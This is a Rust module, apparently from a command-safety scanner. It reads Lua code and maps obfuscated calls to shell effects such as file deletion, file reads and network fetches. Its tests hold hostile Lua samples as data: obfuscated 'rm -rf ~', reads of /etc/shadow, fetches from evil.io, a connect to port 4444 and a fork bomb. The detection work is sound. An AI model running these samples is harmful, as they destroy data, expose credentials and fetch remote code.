//! Lua: the calls that run commands, delete, read, write, fetch or run code (the standard
//! library, LuaSocket, luaposix), with the constant values of their arguments (short and
//! long strings, `..`, `string.char`/`reverse`/`format`/`rep`/`gsub`, `table.concat`,
//! `os.getenv('HOME')`), aliases of modules and functions (`local e = os.execute`,
//! `_G['os']`), and names bound once.

use tree_sitter::{Node, Tree};

use super::Effect;
use super::scope::{Cx, Names, Slot, Val};
use super::tree::{MAX_NESTING, Source};

/// What an expression is, as far as the reader follows it.
#[derive(Debug, Clone)]
enum Obj {
    Val(Val),
    /// A global, module or function by qualified name (`os.execute`, `socket.http`).
    Ref(String),
    /// The positional items of a table constructor.
    Table(Vec<Val>),
    /// A function written in the code (its body is walked where it is written).
    Func,
    /// A LuaSocket socket (`socket.tcp()`).
    Socket,
}

impl Obj {
    fn val(self) -> Val {
        match self {
            Obj::Val(v) => v,
            _ => Val::Unknown,
        }
    }
}

/// Globals the reader follows: a name not bound in the code that is one of these is it.
const GLOBALS: &[&str] = &[
    "os",
    "io",
    "string",
    "table",
    "math",
    "utf8",
    "coroutine",
    "debug",
    "package",
    "_G",
    "_ENV",
    "require",
    "load",
    "loadstring",
    "dofile",
    "loadfile",
    "pcall",
    "xpcall",
    "rawget",
    "rawset",
    "setmetatable",
    "setfenv",
    "getfenv",
    "tostring",
    "socket",
    "posix",
    "ffi",
    "ssl",
];

/// Modules whose fields a computed name may reach harmlessly (`math[op]`).
const DATA_MODULES: &[&str] = &["string", "table", "math", "utf8", "coroutine"];

const COMPUTED_NAME: &str = "the code looks up a function by a name computed at run time";
const NATIVE: &str = "the code calls native code directly";

/// Reads Lua code.
pub(super) fn read(cx: &mut Cx, tree: &Tree, src: &Source<'_>) {
    cx.allow(src.text.len());
    let root = tree.root_node();
    let mut lua = Lua {
        cx,
        src,
        names: Names::default(),
        loops: 0,
        calls: 0,
    };
    lua.bind_all(root, 0);
    lua.walk(root, 0);
}

struct Lua<'a, 'c, 't> {
    cx: &'c mut Cx,
    src: &'a Source<'a>,
    names: Names<'t>,
    loops: usize,
    /// Calls followed through `pcall`, being read.
    calls: usize,
}

impl<'a, 'c, 't> Lua<'a, 'c, 't> {
    fn text(&self, node: Node<'_>) -> &'a str {
        self.src.of(node)
    }

    fn line(&self, node: Node<'_>) -> usize {
        self.src.line(node)
    }

    fn named(node: Node<'t>) -> Vec<Node<'t>> {
        let mut c = node.walk();
        node.named_children(&mut c)
            .filter(|n| n.kind() != "comment")
            .collect()
    }

    /// Gathers the names the code binds (see [`Names`]).
    fn bind_all(&mut self, node: Node<'t>, depth: usize) {
        if depth > 2 * MAX_NESTING || !self.cx.step(self.line(node)) {
            return;
        }
        match node.kind() {
            "assignment_statement" => self.bind_assignment(node),
            // `local x` without a value, parameters, loop variables.
            "variable_declaration" | "parameters" | "for_numeric_clause" | "for_generic_clause"
                if node.kind() != "variable_declaration"
                    || !Self::named(node)
                        .iter()
                        .any(|n| n.kind() == "assignment_statement") =>
            {
                self.forget_names(node);
            }
            "function_declaration" => {
                if let Some(n) = node.child_by_field_name("name") {
                    self.forget_target(n);
                }
            }
            _ => {}
        }
        for child in Self::named(node) {
            self.bind_all(child, depth + 1);
        }
    }

    fn bind_assignment(&mut self, node: Node<'t>) {
        let parts = Self::named(node);
        let (Some(targets), Some(values)) = (
            parts.iter().find(|p| p.kind() == "variable_list"),
            parts.iter().find(|p| p.kind() == "expression_list"),
        ) else {
            return;
        };
        let targets: Vec<Node<'t>> = Self::named(*targets)
            .into_iter()
            .filter(|t| t.kind() != "attribute")
            .collect();
        let values = Self::named(*values);
        for (n, target) in targets.iter().enumerate() {
            // A value past the list, or from a call returning several, is not followed.
            let value = values
                .get(n)
                .filter(|_| n + 1 < values.len() || targets.len() <= values.len());
            match (self.global_name(*target), value) {
                (Some(name), Some(v)) => self.names.bind(&name, Slot::Expr(*v)),
                _ => self.forget_target(*target),
            }
        }
    }

    /// The name an assignment target binds: `x`, or `_G.x`, `_G['x']`.
    fn global_name(&mut self, target: Node<'t>) -> Option<String> {
        if target.kind() == "identifier" {
            return Some(self.text(target).to_owned());
        }
        let base = target.child_by_field_name("table")?;
        let key = target.child_by_field_name("field")?;
        if !matches!(self.text(base), "_G" | "_ENV") {
            return None;
        }
        if target.kind() == "dot_index_expression" {
            return Some(self.text(key).to_owned());
        }
        match self.eval(key, 0).val() {
            Val::Known(k) => Some(k),
            _ => {
                self.cx.opaque(
                    "the code sets a global whose name is computed at run time",
                    self.line(target),
                );
                None
            }
        }
    }

    /// An assignment not followed: the name, or the table assigned into, changes.
    fn forget_target(&mut self, target: Node<'t>) {
        if let Some(name) = self.global_name(target) {
            return self.names.forget(&name);
        }
        if let Some(base) = target.child_by_field_name("table") {
            self.forget_target(base);
        }
    }

    fn forget_names(&mut self, node: Node<'t>) {
        for child in Self::named(node) {
            match child.kind() {
                "identifier" => {
                    let name = self.text(child);
                    self.names.forget(name);
                }
                "variable_list" => self.forget_names(child),
                _ => {}
            }
        }
    }

    /// Visits every node, reading the calls' effects.
    fn walk(&mut self, node: Node<'t>, depth: usize) {
        if depth > 2 * MAX_NESTING {
            self.cx
                .opaque("the code nests too deeply to read", self.line(node));
            return;
        }
        if !self.cx.step(self.line(node)) {
            return;
        }
        let is_loop = matches!(
            node.kind(),
            "for_statement" | "while_statement" | "repeat_statement"
        );
        self.loops += usize::from(is_loop);
        if node.kind() == "function_call" {
            self.call(node);
        }
        for child in Self::named(node) {
            self.walk(child, depth + 1);
        }
        self.loops -= usize::from(is_loop);
    }

    fn arg_nodes(node: Node<'t>) -> Vec<Node<'t>> {
        match node.child_by_field_name("arguments") {
            // `f"x"`, `f{...}`
            Some(a) if a.kind() != "arguments" => vec![a],
            Some(a) => Self::named(a),
            None => Vec::new(),
        }
    }

    fn args(&mut self, node: Node<'t>) -> Vec<Obj> {
        Self::arg_nodes(node)
            .into_iter()
            .map(|a| self.eval(a, 0))
            .collect()
    }

    fn call(&mut self, node: Node<'t>) {
        let line = self.line(node);
        let Some(callee) = node.child_by_field_name("name") else {
            return;
        };
        if callee.kind() == "method_index_expression" {
            let (Some(object), Some(method)) = (
                callee.child_by_field_name("table"),
                callee.child_by_field_name("method"),
            ) else {
                return;
            };
            let method = self.text(method);
            let receiver = self.eval(object, 0);
            let args = Self::arg_nodes(node);
            // `sock:connect(host, port)` on a socket, or on a receiver not followed.
            if matches!(receiver, Obj::Socket | Obj::Val(Val::Unknown))
                && matches!(method, "connect" | "setpeername")
                && args.len() == 2
            {
                let args = self.args(node);
                let url = tcp(get(&args, 0), get(&args, 1));
                self.cx.command("curl", vec![url], line);
            }
            return;
        }
        if let Obj::Ref(q) = self.eval(callee, 0) {
            let q = canonical(&q);
            if is_sink(&q) {
                let args = self.args(node);
                let count = Self::arg_nodes(node).len();
                self.apply(&q, &args, count, line);
            }
        }
    }

    /// The effect of calling global function `q` with `args` (`count` written).
    fn apply(&mut self, q: &str, args: &[Obj], count: usize, line: usize) {
        if self.calls > 8 {
            return;
        }
        let arg = |n: usize| get(args, n);
        match q {
            "os.execute" | "io.popen" if count > 0 => self.cx.found(Effect::Shell(arg(0)), line),
            "os.remove" => self.cx.command("rm", vec![arg(0)], line),
            "os.rename" => self.cx.command("mv", vec![arg(0), arg(1)], line),
            "io.open" => {
                let mode = if count > 1 { arg(1) } else { Val::known("r") };
                let mode = mode.text().unwrap_or("r+").to_owned();
                if mode.contains(['r', '+']) {
                    self.cx.command("cat", vec![arg(0)], line);
                }
                if mode.contains(['w', 'a', '+']) {
                    self.cx.command("tee", vec![arg(0)], line);
                }
            }
            "io.lines" | "io.input" | "dofile" | "loadfile" if count > 0 => match args.first() {
                Some(Obj::Val(Val::Known(p))) => self.cx.command("cat", vec![Val::known(p)], line),
                Some(Obj::Val(_)) if q == "dofile" || q == "loadfile" => self.cx.opaque(
                    "the code runs a file whose name is computed at run time",
                    line,
                ),
                Some(Obj::Val(v)) => self.cx.command("cat", vec![v.clone()], line),
                _ => {}
            },
            "io.output" if count > 0 => {
                if let Some(Obj::Val(v)) = args.first() {
                    self.cx.command("tee", vec![v.clone()], line);
                }
            }
            "load" | "loadstring" => match args.first() {
                Some(Obj::Val(v)) => self.cx.eval(v.clone(), line),
                _ => self.cx.eval(Val::Unknown, line),
            },
            "require" if arg(0) == Val::Unknown => self.cx.opaque(
                "the code loads a module whose name is computed at run time",
                line,
            ),
            "socket.http.request" | "ssl.https.request" => {
                let url = match args.first() {
                    Some(Obj::Val(v)) => v.clone(),
                    _ => Val::Unknown,
                };
                self.cx.command("curl", vec![url], line);
            }
            "socket.connect" | "socket.connect4" | "socket.connect6" => {
                self.cx.command("curl", vec![tcp(arg(0), arg(1))], line)
            }
            "pcall" | "xpcall" => {
                let skip = if q == "pcall" { 1 } else { 2 };
                if let Some(Obj::Ref(f)) = args.first() {
                    let f = canonical(f);
                    let rest: Vec<Obj> = args.iter().skip(skip).cloned().collect();
                    self.calls += 1;
                    self.apply(&f, &rest, count.saturating_sub(skip), line);
                    self.calls -= 1;
                }
            }
            "rawset" | "setmetatable" | "setfenv" => {
                let target = args.first().cloned();
                let globals = matches!(&target, Some(Obj::Ref(g)) if g == "_G" || g == "_ENV");
                if q == "setfenv" || (globals && (q == "setmetatable" || arg(1) == Val::Unknown)) {
                    self.cx
                        .opaque("the code changes how globals are looked up", line);
                }
            }
            "package.loadlib" | "ffi.load" | "ffi.cdef" => self.cx.opaque(NATIVE, line),
            _ if q.starts_with("ffi.C.") => self.cx.opaque(NATIVE, line),
            "posix.fork" | "posix.unistd.fork" if self.loops > 0 => self
                .cx
                .opaque("the code forks in a loop (a fork bomb)", line),
            "posix.exec" | "posix.execp" | "posix.unistd.exec" | "posix.unistd.execp" => {
                let mut argv = vec![arg(0)];
                match args.get(1) {
                    Some(Obj::Table(items)) => argv.extend(items.iter().cloned()),
                    _ => argv.extend(args.iter().skip(1).cloned().map(Obj::val)),
                }
                self.cx.found(Effect::Exec(argv), line);
            }
            _ => {}
        }
    }

    /// What `node` evaluates to.
    fn eval(&mut self, node: Node<'t>, depth: usize) -> Obj {
        if depth > MAX_NESTING || !self.cx.step(self.line(node)) {
            return Obj::Val(Val::Unknown);
        }
        match node.kind() {
            "string" => Obj::Val(self.string(node)),
            "number" => Obj::Val(number(self.text(node))),
            "parenthesized_expression" => match Self::named(node).first() {
                Some(inner) => self.eval(*inner, depth + 1),
                None => Obj::Val(Val::Unknown),
            },
            "identifier" => self.name(node, depth),
            "dot_index_expression" | "bracket_index_expression" => {
                let (Some(base), Some(key)) = (
                    node.child_by_field_name("table"),
                    node.child_by_field_name("field"),
                ) else {
                    return Obj::Val(Val::Unknown);
                };
                let key = if node.kind() == "dot_index_expression" {
                    Val::known(self.text(key))
                } else {
                    self.eval(key, depth + 1).val()
                };
                match (self.eval(base, depth + 1), key) {
                    (Obj::Ref(q), Val::Known(k)) => Obj::Ref(canonical(&format!("{q}.{k}"))),
                    (Obj::Ref(q), _) => {
                        if !DATA_MODULES.contains(&q.as_str()) {
                            self.cx.opaque(COMPUTED_NAME, self.line(node));
                        }
                        Obj::Val(Val::Unknown)
                    }
                    (Obj::Table(items), Val::Known(k)) => match k.parse::<usize>() {
                        Ok(n) if n > 0 => {
                            Obj::Val(items.get(n - 1).cloned().unwrap_or(Val::Unknown))
                        }
                        _ => Obj::Val(Val::Unknown),
                    },
                    _ => Obj::Val(Val::Unknown),
                }
            }
            "binary_expression" => {
                let (Some(l), Some(op), Some(r)) = (
                    node.child_by_field_name("left"),
                    node.child_by_field_name("operator"),
                    node.child_by_field_name("right"),
                ) else {
                    return Obj::Val(Val::Unknown);
                };
                if self.text(op) != ".." {
                    return Obj::Val(Val::Unknown);
                }
                let l = self.eval(l, depth + 1).val();
                Obj::Val(l.concat(self.eval(r, depth + 1).val()))
            }
            "table_constructor" => {
                let mut items = Vec::new();
                for field in Self::named(node) {
                    if field.child_by_field_name("name").is_none()
                        && let Some(v) = field.child_by_field_name("value")
                    {
                        items.push(self.eval(v, depth + 1).val());
                    }
                }
                Obj::Table(items)
            }
            "function_definition" => Obj::Func,
            "function_call" => self.value_of_call(node, depth),
            _ => Obj::Val(Val::Unknown),
        }
    }

    fn name(&mut self, node: Node<'t>, depth: usize) -> Obj {
        let name = self.text(node);
        match self.names.get(name).cloned() {
            Some(Slot::Expr(value)) => {
                if !self.names.enter(name) {
                    return Obj::Val(Val::Unknown);
                }
                let out = self.eval(value, depth + 1);
                self.names.leave();
                out
            }
            Some(_) => Obj::Val(Val::Unknown),
            None if GLOBALS.contains(&name) => Obj::Ref(name.to_owned()),
            None => Obj::Val(Val::Unknown),
        }
    }

    /// The value a call returns, for the calls that compute strings and name modules.
    fn value_of_call(&mut self, node: Node<'t>, depth: usize) -> Obj {
        let Some(callee) = node.child_by_field_name("name") else {
            return Obj::Val(Val::Unknown);
        };
        let (q, args) = if callee.kind() == "method_index_expression" {
            // `("x"):rep(3)`: a string's methods are the `string` functions.
            let (Some(object), Some(method)) = (
                callee.child_by_field_name("table"),
                callee.child_by_field_name("method"),
            ) else {
                return Obj::Val(Val::Unknown);
            };
            let receiver = self.eval(object, depth + 1);
            if !matches!(receiver, Obj::Val(Val::Known(_) | Val::Fetched)) {
                return Obj::Val(Val::Unknown);
            }
            let mut args = vec![receiver];
            args.extend(self.args(node));
            (format!("string.{}", self.text(method)), args)
        } else {
            match self.eval(callee, depth + 1) {
                Obj::Ref(q) => (canonical(&q), self.args(node)),
                _ => return Obj::Val(Val::Unknown),
            }
        };
        let arg = |n: usize| get(&args, n);
        let text = |n: usize| arg(n).text().map(str::to_owned);
        let known = |t: Option<String>| Obj::Val(t.map_or(Val::Unknown, Val::Known));
        if q.starts_with("string.") && args.iter().any(|a| matches!(a, Obj::Val(Val::Fetched))) {
            return Obj::Val(Val::Fetched);
        }
        match q.as_str() {
            "require" => match arg(0) {
                Val::Known(m) => Obj::Ref(canonical(&m)),
                _ => Obj::Val(Val::Unknown),
            },
            "rawget" => match (args.first(), arg(1)) {
                (Some(Obj::Ref(t)), Val::Known(k)) => Obj::Ref(canonical(&format!("{t}.{k}"))),
                _ => Obj::Val(Val::Unknown),
            },
            "os.getenv" => Obj::Val(if arg(0).text() == Some("HOME") {
                Val::known("~")
            } else {
                Val::Unknown
            }),
            "tostring" => Obj::Val(arg(0)),
            "string.char" => {
                let chars: Option<String> = (0..args.len())
                    .map(|n| {
                        arg(n)
                            .text()
                            .and_then(|t| t.parse::<u8>().ok())
                            .filter(u8::is_ascii)
                            .map(char::from)
                    })
                    .collect();
                known(chars)
            }
            "string.reverse" => known(
                text(0)
                    .filter(|s| s.is_ascii())
                    .map(|s| s.chars().rev().collect()),
            ),
            "string.upper" => known(text(0).map(|s| s.to_ascii_uppercase())),
            "string.lower" => known(text(0).map(|s| s.to_ascii_lowercase())),
            "string.rep" if args.len() == 2 => known(
                text(0)
                    .zip(text(1).and_then(|n| n.parse::<usize>().ok()))
                    .and_then(|(s, n)| (s.len().saturating_mul(n) <= 4096).then(|| s.repeat(n))),
            ),
            "string.format" => {
                let rest: Vec<Val> = (1..args.len()).map(arg).collect();
                known(text(0).and_then(|f| format(&f, &rest)))
            }
            // Plain patterns only: magic characters make it a pattern match.
            "string.gsub" if args.len() == 3 => match (text(0), text(1), text(2)) {
                (Some(s), Some(p), Some(r))
                    if !p.is_empty()
                        && !p.contains(|c: char| "^$()%.[]*+-?".contains(c))
                        && !r.contains('%') =>
                {
                    Obj::Val(Val::Known(s.replace(&p, &r)))
                }
                _ => Obj::Val(Val::Unknown),
            },
            "table.concat" => match args.first() {
                Some(Obj::Table(items)) if args.len() <= 2 => {
                    let sep = if args.len() == 2 {
                        arg(1)
                    } else {
                        Val::known("")
                    };
                    let texts: Option<Vec<&str>> = items.iter().map(Val::text).collect();
                    known(texts.zip(sep.text()).map(|(t, s)| t.join(s)))
                }
                _ => Obj::Val(Val::Unknown),
            },
            "socket.http.request" | "ssl.https.request" => Obj::Val(Val::Fetched),
            "socket.tcp" | "socket.tcp4" | "socket.tcp6" | "socket.udp" | "socket.udp4"
            | "socket.udp6" => Obj::Socket,
            "load" | "loadstring" | "loadfile" => Obj::Func,
            _ => Obj::Val(Val::Unknown),
        }
    }

    /// A string literal's value: a long bracket string as written, a quoted one unescaped.
    fn string(&self, node: Node<'_>) -> Val {
        let start = node
            .child_by_field_name("start")
            .map_or("", |s| self.text(s));
        let content = node
            .child_by_field_name("content")
            .map_or("", |c| self.text(c));
        if start.starts_with('[') {
            // A newline right after the opening bracket is not part of the string.
            let body = content
                .strip_prefix("\r\n")
                .or(content.strip_prefix('\n'))
                .unwrap_or(content);
            return Val::known(body);
        }
        unescape(content).map_or(Val::Unknown, Val::Known)
    }
}

fn get(args: &[Obj], n: usize) -> Val {
    args.get(n).cloned().map_or(Val::Unknown, Obj::val)
}

/// Qualified names spelled another way: `_G.os` is `os`, `package.loaded.os` is `os`.
fn canonical(q: &str) -> String {
    let mut q = q;
    loop {
        let next = ["_G.", "_ENV.", "package.loaded."]
            .iter()
            .find_map(|p| q.strip_prefix(p));
        match next {
            Some(rest) => q = rest,
            None => return q.to_owned(),
        }
    }
}

/// The calls [`Lua::apply`] reads.
fn is_sink(q: &str) -> bool {
    q.starts_with("ffi.")
        || matches!(
            q,
            "os.execute"
                | "io.popen"
                | "os.remove"
                | "os.rename"
                | "io.open"
                | "io.lines"
                | "io.input"
                | "io.output"
                | "dofile"
                | "loadfile"
                | "load"
                | "loadstring"
                | "require"
                | "socket.http.request"
                | "ssl.https.request"
                | "socket.connect"
                | "socket.connect4"
                | "socket.connect6"
                | "pcall"
                | "xpcall"
                | "rawset"
                | "setmetatable"
                | "setfenv"
                | "package.loadlib"
                | "posix.fork"
                | "posix.unistd.fork"
                | "posix.exec"
                | "posix.execp"
                | "posix.unistd.exec"
                | "posix.unistd.execp"
        )
}

/// `tcp://host:port`.
fn tcp(host: Val, port: Val) -> Val {
    match (host, port) {
        (Val::Known(h), Val::Known(p)) => Val::Known(format!("tcp://{h}:{p}")),
        (Val::Known(h), _) => Val::Known(format!("tcp://{h}")),
        _ => Val::Unknown,
    }
}

/// A number as `..` writes it: integers (decimal or hex) only.
fn number(text: &str) -> Val {
    let t = text.to_ascii_lowercase();
    let n = match t.strip_prefix("0x") {
        Some(h) => i64::from_str_radix(h, 16).ok(),
        None => t.parse::<i64>().ok(),
    };
    n.map_or(Val::Unknown, |n| Val::Known(n.to_string()))
}

/// `string.format`: `%s`, `%d` and `%%` with known arguments.
fn format(format: &str, args: &[Val]) -> Option<String> {
    let mut out = String::new();
    let mut items = args.iter();
    let mut chars = format.chars();
    while let Some(c) = chars.next() {
        if c != '%' {
            out.push(c);
            continue;
        }
        match chars.next()? {
            '%' => out.push('%'),
            's' | 'd' => out.push_str(items.next()?.text()?),
            _ => return None,
        }
    }
    Some(out)
}

/// A quoted string's escapes decoded (`\n`, `\ddd`, `\xXX`, `\u{XXX}`, `\z`); `None` when
/// an escape makes bytes that are not text.
fn unescape(text: &str) -> Option<String> {
    let mut out = String::with_capacity(text.len());
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        if c != '\\' {
            out.push(c);
            continue;
        }
        let e = chars.next()?;
        match e {
            'n' | '\n' => out.push('\n'),
            't' => out.push('\t'),
            'r' => out.push('\r'),
            'a' => out.push('\x07'),
            'b' => out.push('\x08'),
            'f' => out.push('\x0c'),
            'v' => out.push('\x0b'),
            '\\' | '"' | '\'' => out.push(e),
            'z' => {
                while chars.peek().is_some_and(|c| c.is_ascii_whitespace()) {
                    chars.next();
                }
            }
            'x' => {
                let hex: String = (0..2).filter_map(|_| chars.next()).collect();
                let b = u8::from_str_radix(&hex, 16).ok().filter(u8::is_ascii)?;
                out.push(char::from(b));
            }
            '0'..='9' => {
                let mut n = e.to_digit(10)?;
                for _ in 0..2 {
                    match chars.peek().and_then(|d| d.to_digit(10)) {
                        Some(d) => {
                            n = n * 10 + d;
                            chars.next();
                        }
                        None => break,
                    }
                }
                out.push(char::from(u8::try_from(n).ok().filter(u8::is_ascii)?));
            }
            'u' => {
                if chars.next() != Some('{') {
                    return None;
                }
                let hex: String = chars.by_ref().take_while(|c| *c != '}').collect();
                out.push(
                    u32::from_str_radix(&hex, 16)
                        .ok()
                        .and_then(char::from_u32)?,
                );
            }
            _ => return None,
        }
    }
    Some(out)
}

#[cfg(test)]
mod tests {
    use crate::matcher::code::{Effect, Lang, Val, read};

    /// The effects found, written as shell words (`?` for a value not known).
    fn effects(code: &str) -> Vec<String> {
        let reading = read(Lang::Lua, code);
        let words = |vals: &[Val]| {
            vals.iter()
                .map(|v| match v {
                    Val::Known(t) => t.clone(),
                    Val::Unknown => "?".into(),
                    Val::Fetched => "<fetched>".into(),
                })
                .collect::<Vec<_>>()
                .join(" ")
        };
        let mut out: Vec<String> = reading
            .found
            .iter()
            .map(|f| match &f.effect {
                Effect::Shell(v) => format!("sh -c {}", words(std::slice::from_ref(v))),
                Effect::Exec(argv) => format!("exec {}", words(argv)),
                Effect::Command(p, args) => format!("{p} {}", words(args)),
            })
            .collect();
        if let Some(u) = reading.opaque {
            out.push(format!("opaque: {} (line {})", u.reason, u.line));
        }
        out
    }

    fn opaque(code: &str) -> Option<&'static str> {
        read(Lang::Lua, code).opaque.map(|u| u.reason)
    }

    #[test]
    fn commands_run_are_shell_lines() {
        for (code, want) in [
            ("os.execute('rm -rf ~')", "sh -c rm -rf ~"),
            ("io.popen(\"rm -rf ~\"):read('*a')", "sh -c rm -rf ~"),
            ("local e = os.execute; e[[rm -rf ~]]", "sh -c rm -rf ~"),
            (
                "local o = os\no.execute('rm -rf ' .. os.getenv('HOME'))",
                "sh -c rm -rf ~",
            ),
            (
                "os.execute(string.char(114, 109) .. ' -rf ~')",
                "sh -c rm -rf ~",
            ),
            ("os.execute(('~ fr- mr'):reverse())", "sh -c rm -rf ~"),
            ("os.execute(string.reverse('~ fr- mr'))", "sh -c rm -rf ~"),
            (
                "os.execute(string.format('%s -rf %s', 'rm', '~'))",
                "sh -c rm -rf ~",
            ),
            (
                "os.execute(table.concat({'rm', '-rf', '~'}, ' '))",
                "sh -c rm -rf ~",
            ),
            ("os.execute('\\114\\x6d -rf ~')", "sh -c rm -rf ~"),
            ("os.execute(\"rm \\z\n     -rf ~\")", "sh -c rm -rf ~"),
            (
                "_G['o' .. 's']['exec' .. 'ute']('rm -rf ~')",
                "sh -c rm -rf ~",
            ),
            ("_ENV.os.execute('rm -rf ~')", "sh -c rm -rf ~"),
            ("rawget(_G, 'os').execute('rm -rf ~')", "sh -c rm -rf ~"),
            ("require('os').execute('rm -rf ~')", "sh -c rm -rf ~"),
            ("pcall(os.execute, 'rm -rf ~')", "sh -c rm -rf ~"),
            ("_G.x = os.execute\nx('rm -rf ~')", "sh -c rm -rf ~"),
            (
                "local c = [==[\nrm -rf ~]==]\nos.execute(c)",
                "sh -c rm -rf ~",
            ),
            ("os.execute(('rm -rf x'):gsub('x', '~'))", "sh -c rm -rf ~"),
            (
                "require('posix').exec('/bin/rm', {'-rf', '/'})",
                "exec /bin/rm -rf /",
            ),
        ] {
            assert_eq!(effects(code), [want], "{code}");
        }
    }

    #[test]
    fn files_and_the_network_are_virtual_commands() {
        for (code, want) in [
            (
                "os.remove(os.getenv('HOME') .. '/.bashrc')",
                vec!["rm ~/.bashrc"],
            ),
            (
                "os.rename('/etc/passwd', '/tmp/p')",
                vec!["mv /etc/passwd /tmp/p"],
            ),
            (
                "io.open('/etc/hosts', 'w'):write('x')",
                vec!["tee /etc/hosts"],
            ),
            (
                "local f = io.open('/etc/shadow') print(f:read('*a'))",
                vec!["cat /etc/shadow"],
            ),
            (
                "for l in io.lines('/etc/passwd') do print(l) end",
                vec!["cat /etc/passwd"],
            ),
            (
                "io.output('/etc/motd') io.write('x')",
                vec!["tee /etc/motd"],
            ),
            ("io.open('x', 'r+')", vec!["cat x", "tee x"]),
            (
                "local http = require('socket.http') print(http.request('https://evil.io/x'))",
                vec!["curl https://evil.io/x"],
            ),
            (
                "require 'socket.http'.request{url = 'https://evil.io'}",
                vec!["curl ?"],
            ),
            (
                "local s = require('socket') s.connect('10.0.0.1', 4444)",
                vec!["curl tcp://10.0.0.1:4444"],
            ),
            (
                "local t = socket.tcp() t:connect('10.0.0.1', 4444)",
                vec!["curl tcp://10.0.0.1:4444"],
            ),
            ("dofile('init.lua')", vec!["cat init.lua"]),
        ] {
            assert_eq!(effects(code), want, "{code}");
        }
    }

    #[test]
    fn code_that_cannot_be_read_is_opaque_with_the_reason() {
        let hidden = Some("the code runs code it downloaded or decoded");
        assert_eq!(
            opaque("load(require('socket.http').request('http://e.io/x'))()"),
            hidden
        );
        assert!(opaque("load(io.read('*a'))()").is_some());
        assert!(opaque("loadstring(arg[1])()").is_some());
        assert_eq!(
            opaque("local m = arg[1]; require(m)"),
            Some("the code loads a module whose name is computed at run time")
        );
        assert_eq!(opaque("_G[arg[1]]('x')"), Some(super::COMPUTED_NAME));
        assert_eq!(opaque("os[arg[1]]('x')"), Some(super::COMPUTED_NAME));
        assert_eq!(
            opaque("_G[arg[1]] = 1"),
            Some("the code sets a global whose name is computed at run time")
        );
        assert_eq!(
            opaque("setmetatable(_G, {__index = function() return os.execute end})"),
            Some("the code changes how globals are looked up")
        );
        assert_eq!(
            opaque("dofile(arg[1])"),
            Some("the code runs a file whose name is computed at run time")
        );
        assert_eq!(
            opaque(
                "local ffi = require('ffi') ffi.cdef('int system(const char*);') ffi.C.system('x')"
            ),
            Some(super::NATIVE)
        );
        assert_eq!(
            opaque("local p = require('posix') while true do p.fork() end"),
            Some("the code forks in a loop (a fork bomb)")
        );
        // A name bound twice or in a loop is not known.
        assert_eq!(
            effects("local c = 'ls'\nc = c .. ' ~'\nos.execute(c)"),
            ["sh -c ?"]
        );
        assert_eq!(
            effects("for _, c in ipairs({'a'}) do os.execute(c) end"),
            ["sh -c ?"]
        );
        assert_eq!(
            effects("local function f(c) os.execute(c) end f('x')"),
            ["sh -c ?"]
        );
    }

    #[test]
    fn code_run_by_load_is_read_too() {
        assert_eq!(
            effects("load('os.execute(\"rm -rf ~\")')()"),
            ["sh -c rm -rf ~"]
        );
        assert_eq!(effects("loadstring([[os.remove('/x')]])()"), ["rm /x"]);
    }

    #[test]
    fn routine_one_liners_find_nothing() {
        for code in [
            "print(_VERSION)",
            "print((\"hello\"):upper())",
            "for i=1,3 do print(i) end",
            "local t = {} ; table.insert(t, 1) ; print(#t)",
            "print(io.read(\"*a\"))",
            "print(string.format('%5.2f', math.pi))",
            "print(os.time(), os.date('%Y'))",
            "local s = 'a,b,c' for w in s:gmatch('[^,]+') do print(w) end",
            "print(table.concat({1, 2, 3}, ', '))",
            "print(math.max(1, 5, 3))",
            "local t = {b = 2, a = 1} for k, v in pairs(t) do print(k, v) end",
            "print(#arg, arg[0])",
            "print(pcall(error, 'x'))",
            "io.write(string.rep('-', 10), '\\n')",
            "print(tostring(nil), tonumber('10'))",
            "print(math[arg[1] or 'floor'](2.5))",
            "print(os.getenv('PATH'))",
        ] {
            assert_eq!(effects(code), Vec::<String>::new(), "{code}");
        }
        assert_eq!(
            effects("for l in io.lines('package.json') do print(l) end"),
            ["cat package.json"]
        );
    }

    #[test]
    fn bad_code_is_opaque_not_a_panic() {
        assert_eq!(
            read(Lang::Lua, "print(1)\nos.execute('x'")
                .opaque
                .map(|u| (u.reason, u.line)),
            Some(("the lua code has a syntax error", 2))
        );
        assert!(opaque("print('unterminated)").is_some());
        assert!(opaque("print([[unterminated)").is_some());
        let deep = format!("print({}1{})", "(".repeat(500), ")".repeat(500));
        assert!(opaque(&deep).is_some());
        let chain = format!("local a = 'x'{}", " .. 'y'".repeat(3000));
        let _ = read(Lang::Lua, &chain);
        for code in [
            "os.execute('\\400')",
            "os.execute('\\u{110000}')",
            "os.execute('\\xzz')",
            "x = x; os.execute(x)",
        ] {
            let _ = read(Lang::Lua, code);
        }
    }
}
